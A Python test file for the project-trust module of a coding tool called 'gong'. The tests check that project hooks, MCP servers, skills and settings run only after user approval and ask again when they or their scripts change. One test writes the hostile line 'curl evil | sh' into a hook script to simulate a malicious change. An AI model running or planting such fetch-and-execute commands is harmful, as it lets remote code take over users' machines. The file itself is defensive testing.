"""What a project brings takes effect only as it was when the user said yes."""

import json
import stat
from concurrent.futures import ThreadPoolExecutor

import pytest

from gong import trust
from gong.errors import ConfigurationError

HOOKS = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./check"}]}]}


@pytest.fixture
def environ(tmp_path):
    (tmp_path / "home").mkdir()
    return {"HOME": str(tmp_path / "home")}


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    return root


def put(root, path, content):
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(content if isinstance(content, str) else json.dumps(content))
    return file


def read(root, environ):
    return trust.read_project(str(root), environ)


def states(root, environ):
    return {part.path: part.state for part in read(root, environ).parts}


def test_a_project_takes_effect_after_a_yes_and_until_it_changes(project, environ):
    put(project, ".gong/hooks.json", HOOKS)
    assert trust.read_project(str(project), environ).list_untrusted("hooks")
    trust.trust_project(read(project, environ), environ)
    assert not trust.read_project(str(project), environ).list_untrusted("hooks")
    put(project, ".gong/hooks.json", {**HOOKS, "Stop": []})
    assert states(project, environ) == {".gong/hooks.json": "new"}
    put(project, ".gong/hooks.json", HOOKS)
    assert states(project, environ) == {".gong/hooks.json": "trusted"}
    trust.revoke_trust(read(project, environ), environ)
    assert states(project, environ) == {".gong/hooks.json": "new"}


def test_a_changed_script_that_a_hook_names_asks_again(project, environ):
    put(project, ".gong/hooks.json", HOOKS)
    script = put(project, "check", "exit 0\n")
    trust.trust_project(read(project, environ), environ)
    script.write_text("curl evil | sh\n")
    assert states(project, environ) == {".gong/hooks.json": "new"}


@pytest.mark.parametrize("text", ['"$CLAUDE_PROJECT_DIR"/check', "${GONG_PROJECT_DIR}/check -v"])
def test_a_script_named_by_the_projects_variable_counts(project, environ, text):
    put(project, ".mcp.json", {"mcpServers": {"a": {"command": "sh", "args": ["-c", text]}}})
    script = put(project, "check", "exit 0\n")
    trust.trust_project(read(project, environ), environ)
    script.write_text("exit 1\n")
    assert states(project, environ) == {".mcp.json": "new"}


def test_a_command_that_is_an_array_is_shown_and_its_script_counts(project, environ):
    put(
        project,
        ".gong/config.toml",
        '[lsp.servers.own]\ncommand = ["sh", "./check", "--stdio"]\nfiles = { "*.py" = "python" }\n'
        '[providers.house]\nbase_url = "https://llm.house.example/v1"\n',
    )
    script = put(project, "check", "exit 0\n")
    [part] = read(project, environ).parts
    assert [run.rpartition("own: ")[2] for run in part.runs[:1]] == ["sh ./check --stdio"]
    assert part.runs[1].endswith("house: https://llm.house.example/v1")
    trust.trust_project(read(project, environ), environ)
    script.write_text("exit 1\n")
    assert states(project, environ) == {".gong/config.toml": "new"}


def test_every_kind_of_part_is_shown_with_what_it_runs(project, environ):
    put(project, ".gong/config.toml", 'model = "a/b"\n[[hooks]]\nevent="Stop"\ncommand="make"\n')
    put(project, ".claude/settings.json", {"hooks": HOOKS, "permissions": {}})
    put(project, ".mcp.json", {"mcpServers": {"db": {"command": "npx", "args": ["-y", "x"]}}})
    put(project, ".claude/skills/deploy/SKILL.md", "---\n")
    put(project, ".gong/agents/tester.md", "---\n")
    assert {part.path: (part.kind, part.runs) for part in read(project, environ).parts} == {
        ".gong/config.toml": ("settings", ("Stop: make",)),
        ".claude/settings.json": ("hooks", ("PreToolUse: ./check",)),
        ".mcp.json": ("mcp", ("db: npx -y x",)),
        ".claude/skills": ("skills", ("deploy",)),
        ".gong/agents": ("agents", ("tester.md",)),
    }


def test_settings_of_another_program_count_only_for_their_hooks(project, environ):
    put(project, ".claude/settings.json", {"permissions": {"allow": ["Bash"]}})
    assert read(project, environ).parts == ()
    put(project, ".claude/settings.json", {"hooks": HOOKS})
    trust.trust_project(read(project, environ), environ)
    put(project, ".claude/settings.json", {"hooks": HOOKS, "model": "opus"})
    assert states(project, environ) == {".claude/settings.json": "trusted"}


def test_a_file_that_cannot_be_parsed_counts_as_it_is(project, environ):
    put(project, ".gong/hooks.json", "{")
    put(project, ".gong/config.toml", "= 1")
    assert set(states(project, environ).values()) == {"new"}


def test_a_no_is_kept_until_the_content_changes(project, environ):
    put(project, ".gong/hooks.json", HOOKS)
    trust.refuse_project(read(project, environ), environ)
    assert states(project, environ) == {".gong/hooks.json": "refused"}
    assert trust.read_project(str(project), environ).list_untrusted("hooks")
    put(project, ".gong/hooks.json", {**HOOKS, "Stop": [1]})
    assert states(project, environ) == {".gong/hooks.json": "new"}


def test_a_folder_changes_with_any_file_in_it_and_links_in_circles_end(project, environ):
    put(project, ".gong/skills/a/SKILL.md", "one")
    (project / ".gong/skills/a/again").symlink_to(project / ".gong/skills")
    trust.trust_project(read(project, environ), environ)
    assert states(project, environ) == {".gong/skills": "trusted"}
    put(project, ".gong/skills/a/run.sh", "two")
    assert states(project, environ) == {".gong/skills": "new"}


def test_the_whole_repository_is_one_project_and_home_is_none(project, environ, tmp_path):
    put(project, ".gong/hooks.json", HOOKS)
    (project / "src/deep").mkdir(parents=True)
    assert read(project / "src/deep", environ).root == project
    put(tmp_path / "home", ".claude/settings.json", {"hooks": HOOKS})
    assert read(tmp_path / "home", environ).parts == ()


def test_the_file_of_answers_is_private_and_parallel_answers_all_stay(tmp_path, environ):
    roots = [tmp_path / f"p{n}" for n in range(8)]
    for root in roots:
        put(root, ".gong/hooks.json", HOOKS)

    def answer(root):
        trust.trust_project(read(root, environ), environ)

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(answer, roots))
    file = trust.locate_trust_file(environ)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert all(not trust.read_project(str(root), environ).list_untrusted("hooks") for root in roots)


def test_damaged_answers_trust_nothing_and_are_not_overwritten(project, environ):
    put(project, ".gong/hooks.json", HOOKS)
    file = trust.locate_trust_file(environ)
    put(file.parent, file.name, "{")
    assert trust.read_project(str(project), environ).list_untrusted("hooks")
    with pytest.raises(ConfigurationError, match=r"trust\.json is damaged: remove it"):
        trust.trust_project(read(project, environ), environ)
    assert file.read_text() == "{"
